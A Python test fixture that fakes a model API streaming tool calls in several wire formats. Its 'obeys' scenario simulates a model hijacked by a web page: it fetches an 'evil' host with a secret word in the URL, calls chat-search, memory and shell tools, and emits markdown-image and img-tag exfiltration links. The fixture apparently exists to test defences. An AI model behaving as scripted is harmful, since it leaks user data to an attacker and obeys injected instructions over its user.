"""Scenarios in which a model calls tools: turn by turn, in the shapes that models send."""

import base64
import json
import re
from collections.abc import Iterator
from itertools import chain
from typing import Any

from tests.fake_cloudflare import frames
from tests.fake_cloudflare.frames import frame
from tests.fake_cloudflare.run import Run, scenario


def turns_line(*turns: dict[str, Any], **options: object) -> str:
    """The line of a question whose reply takes these turns.

    `{"thought"?, "text"?, "calls"?: [[name, arguments], …]}`
    """
    data = base64.b64encode(json.dumps(turns).encode()).decode()
    return " ".join(["fake: turns", f"data={data}", *(f"{key}={value}" for key, value in options.items())])


@scenario
async def turns(run: Run, data: str = "", shape: str = "fragments", delay: float = 0.0) -> None:
    """The turn that follows the calls in the prompt; the last one again where there are more.

    `shape`: fragments, whole (calls in one frame), native (of the older models) or nameless (without ids).
    """
    asked = [m for m in run.body["messages"] if m.get("role") == "assistant" and m.get("tool_calls")]
    script = json.loads(base64.b64decode(data))
    turn = script[min(len(asked), len(script) - 1)]
    calls = turn.get("calls", []) if run.body.get("tools") else []
    texts = [frames.chunk(token) for token in frames.tokens_of(turn.get("text", ""))]
    if thought := turn.get("thought"):
        texts.insert(0, frames.chunk(thought, "reasoning_content"))
    if shape == "native":
        called = [{"name": name, "arguments": arguments} for name, arguments in calls]
        pieces = [frame({"response": turn.get("text", ""), "tool_calls": called})]
        counted = frames.usage(run.prompt_tokens, 5)
        await run.send([*pieces, frame({"response": "", "usage": counted}), frames.DONE], delay)
        return
    reason = "tool_calls" if calls else "stop"
    closing = chain(frames.closing(reason, run.prompt_tokens, len(texts)), [frames.DONE])
    await run.send(chain(texts, _calls(calls, len(asked), shape), closing), delay)


def _calls(calls: list[Any], turn: int, shape: str) -> Iterator[bytes]:
    for index, (name, arguments) in enumerate(calls):
        text = arguments if isinstance(arguments, str) else json.dumps(arguments)
        call: dict[str, Any] = {"index": index, "type": "function"}
        if shape != "nameless":
            call["id"] = f"call_{turn}_{index}"
        if shape != "fragments":
            yield _delta(call | {"function": {"name": name, "arguments": text}})
            continue
        yield _delta(call | {"function": {"name": name, "arguments": ""}})
        for at in range(0, len(text), 5):
            yield _delta({"index": index, "function": {"arguments": text[at : at + 5]}})


def _delta(call: dict[str, Any]) -> bytes:
    return frame({"choices": [{"index": 0, "delta": {"content": None, "tool_calls": [call]}}]})


_ADDRESS = re.compile(r'<source number="\d+">\n[^\n]*\n(\S+)')


@scenario
async def obeys(run: Run, page: str = "", word: str = "", evil: str = "") -> None:
    """The worst of models: it finds and reads a page, and then does whatever a page could tell it to do."""
    results = [each["content"] for each in run.body["messages"] if each.get("role") == "tool"]
    calls: list[Any] = []
    text = ""
    if not results:
        calls = [["web_search", {"query": page}]]
    elif len(results) == 1:
        calls = [["read_page", {"url": address}] for address in _ADDRESS.findall(results[0])[:1]]
    elif len(results) == 2:
        calls = [["read_page", {"url": f"{evil}/?{word}"}], ["read_page", {"url": f"{evil}/{word}.html"}]]
        calls += [[name, {"query": word, "fact": word}] for name in ("search_my_chats", "remember", "shell")]
    else:
        text = f"![x]({evil}/{word}.png) <img src='{evil}/{word}'> [open]({evil}/?{word}) Done."
    texts = [frames.chunk(token) for token in frames.tokens_of(text)] if text else []
    reason = "tool_calls" if calls else "stop"
    closing = chain(frames.closing(reason, run.prompt_tokens, len(texts)), [frames.DONE])
    await run.send(chain(texts, _calls(calls, len(results), "whole"), closing), 0)
